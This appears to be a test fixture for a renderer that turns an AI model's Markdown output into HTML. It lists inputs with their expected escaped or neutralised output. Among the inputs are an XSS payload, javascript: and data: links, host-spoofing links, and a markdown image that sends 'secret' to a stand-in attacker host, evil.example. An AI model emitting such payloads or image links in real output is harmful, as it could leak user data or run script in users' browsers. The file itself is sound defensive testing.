/** Opens a lot, and closes nothing: 29 000 characters. */
const LADDER = Array.from({ length: 240 }, (_, index) => `${'`'.repeat(index + 1)}a`).join('')

/** Markdown of a model, and the nodes that it renders to; links as `A[URL|text]`. */
export const MARKDOWN: readonly (readonly [string, string])[] = [
  ['<img src=x onerror=alert(1)> & <b>', '<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;b&gt;</p>'],
  ['![cat](https://evil.example/?d=secret)', '<p>![cat](https://evil.example/?d=secret)</p>'],
  ['[a](javascript:alert(1)) [b](data:text/html,x)', '<p>[a](javascript:alert(1)) [b](data:text/html,x)</p>'],
  [
    '[c](//evil.example/x) [d](https://bank@evil.example)',
    '<p>[c](//evil.example/x) [d](https://bank@evil.example)</p>',
  ],
  ['[e](/_fw/proposals) [f](/\\evil.example)', '<p>[e](/_fw/proposals) [f](/\\evil.example)</p>'],
  ['[bank.example](https://evil.example/a)', '<p>A[https://evil.example/a|bank.example (evil.example)]</p>'],
  ['See https://evil.example/a?b=1.', '<p>See A[https://evil.example/a?b=1|https://evil.example/a?b=1].</p>'],
  ['[help](/help)', '<p>A[/help|help]</p>'],
  [
    '# Title\n**b** *i* _u_ `c<` snake_case_name 2*3*4',
    '<p class="fw-copilot-heading">Title</p><p><strong>b</strong> <em>i</em> <em>u</em> <code dir="auto">c&lt;</code> snake_case_name 2<em>3</em>4</p>',
  ],
  ['- one\n- two\n\n3. three', '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>'],
  [
    '```js\n<a>\n\n# no\n```\n> q',
    '<pre tabindex="0" dir="ltr"><code>&lt;a&gt;\n\n# no</code></pre><blockquote>q</blockquote>',
  ],
  ['```\nopen **x**', '<pre tabindex="0" dir="ltr"><code>open **x**</code></pre>'],
  [
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '<div class="fw-copilot-table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
  ],
  ['\\*not\\* `` a`b ``', '<p>*not* <code dir="auto"> a`b </code></p>'],
  [LADDER, `<p>${LADDER}</p>`],
]
